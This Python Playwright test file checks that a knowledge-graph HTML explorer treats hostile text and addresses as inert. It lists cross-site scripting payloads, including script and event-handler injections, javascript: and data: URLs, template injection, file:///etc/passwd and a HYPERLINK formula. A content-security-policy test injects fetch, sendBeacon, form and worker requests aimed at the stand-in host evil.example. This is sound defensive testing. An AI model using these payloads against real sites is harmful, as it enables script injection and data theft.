"""Hostile corpora: foreign text is text, foreign addresses are links to the web or nothing, nothing gets out."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

from playwright.sync_api import Page, Route, expect

from kg.exporters import write
from kg.graph import KnowledgeGraph
from kg.model import Edge, Image, Provider, Story, Topic
from tests.page.graphs import BASE, MORNING, put
from tests.page.screen import Open, find, place, ready, settle, view

HOSTILE = [
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</ScRiPt ><img src=x onerror=window.hacked=1>",
    '" onerror="window.hacked=1',
    "' onmouseover='window.hacked=1",
    "<img src=x onerror=window.hacked=1>",
    '<svg onload="window.hacked=1"><a href="javascript:window.hacked=1"><text>x</text></a></svg>',
    '<a href="https://evil.example/">href</a>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<!--<script>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %> [[constructor.constructor('window.hacked=1')()]]",
    "before\u2028after\u2029end\x00\x1b[31m\x7f",
    "כותרת בעברית 123 \u202eabc\u2066def",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "constructor",
    "__proto__",
    "toString",
    "lone \ud83d surrogate",
    '=HYPERLINK("https://evil.example/")',
    "long " * 20_000,
    "W" * 10_000,
]
ADDRESSES = (
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "java\nscript:window.hacked=1",
    " javascript:window.hacked=1",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil.example",
    'https://a.example/"onmouseover="window.hacked=1',
)


def hostile() -> KnowledgeGraph:
    """For each text an article, a provider, a topic and a story that have it wherever text can be."""
    graph = KnowledgeGraph()
    for number, text in enumerate(HOSTILE):
        iri = ADDRESSES[number] if number < len(ADDRESSES) else f"https://a.example/{number}"
        put(graph, iri, text, abstract=text, section=text, author=(text,), alias=ADDRESSES, date_published=MORNING)
        graph.add_node(
            Provider(f"{BASE}provider/{number}", name=text, domain=text, alternate_name=(text,), description=text)
        )
        graph.add_node(Topic(f"{BASE}topic/{number}", name=text, definition=text, keyword=(text,)))
        graph.add_node(Story(f"{BASE}story/{number}", name=text, keyword=(text, "x"), size=1))
        graph.add_node(Image(f"javascript:window.hacked='{number}'", caption=text))
        for field, target in (("publisher", "provider"), ("about", "topic"), ("in_story", "story")):
            graph.add_edge(Edge(iri, field, f"{BASE}{target}/{number}"))
        graph.add_edge(Edge(f"{BASE}story/{number}", "main_topic", f"{BASE}topic/{number}"))
        graph.add_edge(Edge(f"{BASE}story/{number}", "core", iri))
        graph.add_edge(Edge(iri, "image", f"javascript:window.hacked='{number}'"))
        if number:
            graph.add_edge(Edge(iri, "related_to", ADDRESSES[0]))
    return graph


def harmless(page: Page) -> None:
    """Nothing was run, nothing was put in as markup, links lead to the web and tell nothing."""
    settle(page)
    assert page.evaluate("window.hacked") is None
    assert page.locator("script").count() == 2
    assert page.locator("style, base, iframe, object, embed, img, form, link").count() == 2, (
        "the page's own style and icon"
    )
    found = page.evaluate(
        """() => [...document.querySelectorAll("*")].flatMap((element) =>
            [...element.attributes].map(({ name }) => name).filter((name) => /^on|^srcdoc$/.test(name)))"""
    )
    assert found == []
    for href, rel, target in page.locator("a").evaluate_all(
        "(all) => all.map((a) => [a.getAttribute('href'), a.rel, a.target])"
    ):
        assert href.startswith(("https://", "http://")), href
        assert (rel, target) == ("noopener noreferrer", "_blank")


def begun(shown: list[str], texts: list[str]) -> list[str]:
    """What is shown, with the whole text for what is its beginning."""
    found = [text.replace("\ud83d", "\ufffd") for text in shown]
    whole = {text[:150]: text for text in texts}
    return [whole.get(text[:150], text) if text.endswith("…") else text for text in found]


def test_hostile_text_is_only_text_wherever_it_is_shown(open_page: Open) -> None:
    graph = hostile()
    page = open_page(graph)
    expected = [text.replace("\ud83d", "\ufffd") for text in HOSTILE]
    for name in ("Stories", "Coverage", "Graph", "List"):
        view(page, name)
        harmless(page)
    expect(page.locator("#list h3 bdi")).to_have_count(len(expected))
    shown = page.locator("#list h3 bdi").evaluate_all("(all) => all.map((one) => one.textContent)")
    assert sorted(begun(shown, expected)) == sorted(expected)
    headings = page.evaluate(
        """() => ["article", "provider", "topic", "story"].map((kind) => explorer.graph.ids(kind).map((node) => {
            explorer.go(node);
            const heading = document.querySelector("#panel h2");
            return heading.childElementCount ? heading.innerHTML : heading.textContent;
        }))"""
    )
    for found in headings:
        assert sorted(begun(found, expected)) == sorted(expected)
    page.locator("#panel summary").click()
    articles = page.evaluate("explorer.graph.ids('article')")
    for number in (0, 3, len(articles) - 1):
        page.evaluate("(node) => explorer.go(node)", articles[number])
        harmless(page)
    for text in expected[:9]:
        find(page, text[:60])
        assert page.locator("#finder [role=option]").count() >= 1, text[:80]
        harmless(page)


def test_hostile_text_is_only_text_in_what_is_exported(open_page: Open, tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    page = open_page(hostile())
    page.mouse.move(*place(page, HOSTILE[0]))
    for name in ("Stories", "Graph"):
        view(page, name)
        with page.expect_download() as found:
            page.evaluate("explorer.exportSvg()")
        found.value.save_as(tmp_path / "graph.svg")
        tree = ET.parse(tmp_path / "graph.svg").getroot()
        assert {one.tag.rpartition("}")[2] for one in tree.iter()} <= {"svg", "title", "path", "rect", "text", "g"}
    harmless(page)


def test_the_policy_stops_what_should_ever_get_in(open_page: Open, town_page: Path) -> None:
    page = open_page(town_page, watched=False)
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.context.route("https://**/*", answer)
    refused = page.evaluate(
        """async () => {
            const refused = new Set();
            const all = ["script-src-elem", "script-src-attr", "connect-src", "frame-src", "object-src", "base-uri"];
            all.push("form-action", "media-src", "font-src", "worker-src", "style-src-elem", "style-src-attr");
            const done = new Promise((resolve) => document.addEventListener("securitypolicyviolation", (event) => {
                refused.add(event.effectiveDirective);
                if (all.every((one) => refused.has(one))) resolve();
            }));
            const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
            add("script", { textContent: "window.hacked = 1" });
            add("script", { src: "https://evil.example/x.js" });
            add("style", { textContent: "@font-face { font-family: x; src: url(https://evil.example/x.woff) }" });
            add("iframe", { src: "https://evil.example/" });
            add("object", { data: "https://evil.example/" });
            add("video", { src: "https://evil.example/x.mp4" });
            document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
            add("form", { action: "https://evil.example/", method: "post" });
            document.querySelector("form").submit();
            document.body.insertAdjacentHTML("beforeend", '<b onclick="window.hacked = 2" style="color: red">b</b>');
            document.body.lastChild.click();
            new FontFace("x", "url(https://evil.example/x.woff)").load().catch(() => {});
            try { new Worker("https://evil.example/x.js"); } catch { /* of another origin */ }
            try { new Worker(URL.createObjectURL(new Blob(["0"]))); } catch { refused.add("worker-src"); }
            navigator.sendBeacon("https://evil.example/");
            await fetch("https://evil.example/").catch(() => {});
            // Out of the reach of the test's own way in, which may.
            setTimeout(() => { try { Function("window.hacked = 3")(); } catch { refused.add("eval"); } });
            await Promise.race([done, new Promise((end) => setTimeout(end, 2000))]);
            return [...refused];
        }"""
    )
    assert {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "style-src-attr",
        "connect-src",
        "frame-src",
        "object-src",
        "media-src",
        "font-src",
        "base-uri",
        "form-action",
        "worker-src",
        "eval",
    } <= set(refused)
    assert page.evaluate("window.hacked") is None
    assert asked == []


def test_served_it_asks_for_the_page_alone(open_page: Open, town: KnowledgeGraph, tmp_path: Path) -> None:
    content = write(town, tmp_path / "served.html").read_bytes()
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = open_page(town, watched=False)
        page.goto(f"http://127.0.0.1:{server.server_port}/graph.html")
        ready(page)
        for name in ("Coverage", "Graph", "List"):
            view(page, name)
        server.shutdown()
    assert [path for path in asked if path != "/favicon.ico"] == ["/graph.html"]
